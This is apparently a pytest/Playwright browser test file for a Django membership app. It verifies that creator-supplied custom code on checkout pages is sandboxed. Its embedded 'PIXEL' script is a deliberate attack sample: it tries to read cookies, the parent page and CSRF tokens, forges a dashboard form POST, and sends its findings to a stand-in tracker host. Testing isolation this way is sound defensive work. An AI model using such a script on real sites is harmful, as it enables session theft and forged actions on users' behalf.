"""An offer's custom code in a real browser: the creator's pixel runs and reaches its own
server, but it cannot read the checkout page, a cookie or a CSRF token, and no request it makes
carries a session, whether staff logged in before the page opened or logs in afterwards in
another tab."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.core.signals import request_started

from accounts.models import User
from hubs.models import HubGroup
from memberships import services
from memberships.models import Offer
from tests.factories import stored_image

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

TRACKER = "https://pixel.tracker.example"

# Twice a second for a minute (longer than any test here takes, however slow the machine), the
# pixel tries what the review's test pixel did, and more, then tells its own server what it
# found. Its requests to this site say "pixel" in their query.
PIXEL = """
<script>
(function () {
  var round = 0;
  function attempt(read) {
    try { return read(); } catch (error) { return "blocked: " + error.name; }
  }
  function attack() {
    round += 1;
    var found = {
      round: round,
      origin: self.origin,
      framed: window.top !== window,
      cookie: attempt(function () { return document.cookie; }),
      parentPage: attempt(function () { return parent.document.body.innerHTML; }),
      csrfToken: attempt(function () { return parent.document.querySelector("[name=csrfmiddlewaretoken]").value; }),
      storage: attempt(function () { return String(window.localStorage.length); })
    };
    fetch("/dashboard/?pixel=fetch", {credentials: "include"})
      .then(function (response) { return response.text(); })
      .then(function (text) { return "read " + text.length; }, function (error) { return "blocked: " + error.name; })
      .then(function (dashboard) {
        found.dashboard = dashboard;
        return fetch("__TRACKER__/collect", {method: "POST", body: JSON.stringify(found)});
      });
    // A form POST that would create a hub group, then a page of the dashboard, in a frame of its own.
    var sink = document.querySelector("iframe[name=sink]") || document.body.appendChild(
      Object.assign(document.createElement("iframe"), {name: "sink"}));
    if (round % 2) {
      var form = document.createElement("form");
      form.method = "post";
      form.action = "/dashboard/community/groups/new/?pixel=form";
      form.target = "sink";
      [["name", "Pwned " + round], ["description", "x"], ["permission", "public"], ["upsell", ""]].forEach(
        function (pair) {
          form.appendChild(Object.assign(document.createElement("input"), {name: pair[0], value: pair[1]}));
        });
      document.body.appendChild(form);
      form.submit();
      form.remove();
    } else {
      sink.src = "/dashboard/community/?pixel=frame&round=" + round;
    }
    if (round === 2) { window.open("/dashboard/?pixel=popup"); }
    if (round < 120) { setTimeout(attack, 500); } else { location.assign("/dashboard/?pixel=self"); }
  }
  attack();
})();
</script>
<p id="widget">Chat with us</p>
""".replace("__TRACKER__", TRACKER)


def _wait_until(page: Any, ready: Callable[[], bool], timeout: float = 30.0) -> None:
    """Let the browser run until ``ready()`` holds or ``timeout`` seconds pass (the caller's
    assertions then say what is missing). Playwright answers routes while it waits."""
    deadline = time.monotonic() + timeout
    while not ready() and time.monotonic() < deadline:
        page.wait_for_timeout(100)


class Tracker:
    """The creator's outside server, as Playwright answers it: what the pixel sent."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.reports: list[dict[str, Any]] = []
        page.context.route(f"{TRACKER}/**", self.handle)

    def handle(self, route: Any) -> None:
        if route.request.method == "POST":
            self.reports.append(json.loads(route.request.post_data))
        route.fulfill(status=204, headers={"Access-Control-Allow-Origin": "*"})

    def wait_for(self, count: int) -> list[dict[str, Any]]:
        _wait_until(self.page, lambda: len(self.reports) >= count)
        assert len(self.reports) >= count, f"the pixel sent {len(self.reports)} reports"
        return self.reports


class PixelRequests:
    """What the server received from the pixel (each of its requests to this site says
    ``pixel`` in its query string), and whether the browser sent the session cookie with it."""

    def __init__(self) -> None:
        self.received: list[tuple[str, bool]] = []
        self.others_with_session = 0  # the pages' own requests: proof that the check can see one
        request_started.connect(self._started)

    def _started(self, sender: Any, environ: dict[str, Any] | None = None, **kwargs: Any) -> None:
        environ = environ or {}
        with_session = f"{django_settings.SESSION_COOKIE_NAME}=" in environ.get("HTTP_COOKIE", "")
        if "pixel" in environ.get("QUERY_STRING", ""):
            self.received.append((f"{environ['REQUEST_METHOD']} {environ['PATH_INFO']}", with_session))
        elif with_session:
            self.others_with_session += 1

    def close(self) -> None:
        request_started.disconnect(self._started)

    def with_session(self) -> list[str]:
        return [request for request, with_session in self.received if with_session]


@pytest.fixture
def pixel_requests() -> Iterator[PixelRequests]:
    recorder = PixelRequests()
    yield recorder
    recorder.close()


def _offer(*, published: bool = True) -> Offer:
    group = HubGroup.objects.create(name="Inner Circle", slug="inner-circle", permission="private")
    offer = services.offer_create(
        fields=services.OfferFields(title="Yoga Club", custom_code=PIXEL),
        hub_groups=[group],
        thumbnail=stored_image(),
    )
    return services.offer_publish(offer=offer) if published else offer


def _assert_isolated(reports: list[dict[str, Any]]) -> None:
    for found in reports:
        assert found["origin"] == "null"  # opaque
        assert found["framed"]
        assert found["cookie"] == "blocked: SecurityError"
        assert found["parentPage"] == "blocked: SecurityError"
        assert found["csrfToken"] == "blocked: SecurityError"
        assert found["storage"] == "blocked: SecurityError"
        assert found["dashboard"] == "blocked: TypeError"  # no CORS for an opaque origin


def _assert_no_session_reached_the_server(pixel_requests: PixelRequests, page: Any) -> None:
    tried = {"GET /dashboard/", "POST /dashboard/community/groups/new/", "GET /dashboard/community/"}
    _wait_until(page, lambda: tried <= {request for request, _ in pixel_requests.received})
    page.wait_for_timeout(500)  # and whatever the pixel sent meanwhile is received too
    sent = {request for request, _ in pixel_requests.received}
    assert tried <= sent
    assert pixel_requests.others_with_session > 0  # staff is logged in, in this browser
    assert pixel_requests.with_session() == []
    assert not HubGroup.objects.filter(name__startswith="Pwned").exists()


def test_a_pixel_on_the_checkout_page_cannot_act_for_staff_who_log_in_in_another_tab_later(
    page, live_server, log_in, settings, tmp_path, owner: User, pixel_requests: PixelRequests
) -> None:
    from playwright.sync_api import expect

    settings.MEDIA_ROOT = tmp_path / "media"
    offer = _offer()
    groups_before = HubGroup.objects.count()
    tracker = Tracker(page)

    page.goto(f"/offers/{offer.slug}/checkout/")  # anonymous: the cached page
    expect(page.frame_locator("iframe[data-custom-code]").locator("#widget")).to_be_visible()
    # The frame takes the room its content needs: the widget's line and the pixel's own frame.
    frame = page.locator("iframe[data-custom-code]")
    page.wait_for_function("frame => frame.getBoundingClientRect().height > 10", arg=frame.element_handle())
    assert frame.evaluate("frame => frame.getBoundingClientRect().height") < 300
    tracker.wait_for(2)

    # Staff logs in in another tab of the same browser while the pixel keeps running. What counts
    # is what the pixel does after the login, however long the login took: its reports and
    # requests from then on, waited for rather than assumed to have come within a fixed time.
    staff_tab = page.context.new_page()
    log_in(staff_tab, owner)
    since_login = len(pixel_requests.received)
    reports = tracker.wait_for(len(tracker.reports) + 4)
    _wait_until(page, lambda: len(pixel_requests.received) > since_login + 4)

    _assert_isolated(reports)
    assert len(pixel_requests.received) > since_login + 4
    _assert_no_session_reached_the_server(pixel_requests, page)
    assert HubGroup.objects.count() == groups_before


def test_a_pixel_cannot_act_for_staff_already_logged_in_even_on_a_drafts_preview(
    page, live_server, log_in, settings, tmp_path, owner: User, pixel_requests: PixelRequests
) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    offer = _offer(published=False)
    tracker = Tracker(page)
    log_in(page, owner)

    page.goto(f"/offers/{offer.slug}/checkout/")
    assert page.get_by_text("only staff can see this page").is_visible()
    _assert_isolated(tracker.wait_for(4))
    _assert_no_session_reached_the_server(pixel_requests, page)


def test_opened_in_a_tab_of_its_own_the_custom_code_runs_only_framed_and_the_checkout_form_works(
    page, new_page, live_server, log_in, settings, tmp_path, owner: User, pixel_requests: PixelRequests
) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    offer = _offer()
    tracker = Tracker(page)
    log_in(page, owner)

    page.goto(f"/offers/{offer.slug}/custom-code/")
    page.wait_for_url(f"**/offers/{offer.slug}/checkout/")
    _assert_isolated(tracker.wait_for(4))  # framed, every time
    _assert_no_session_reached_the_server(pixel_requests, page)

    # A buyer claims the offer from a checkout page that carries custom code.
    buyer = new_page()
    buyer.goto(f"/offers/{offer.slug}/checkout/")
    buyer.get_by_label("Your name").fill("Bea Buyer")
    buyer.get_by_label("Email address").fill("bea@example.com")
    buyer.get_by_role("button", name="Join for free").click()
    buyer.wait_for_url("**/community/inner-circle/")
    assert User.objects.filter(email="bea@example.com").exists()
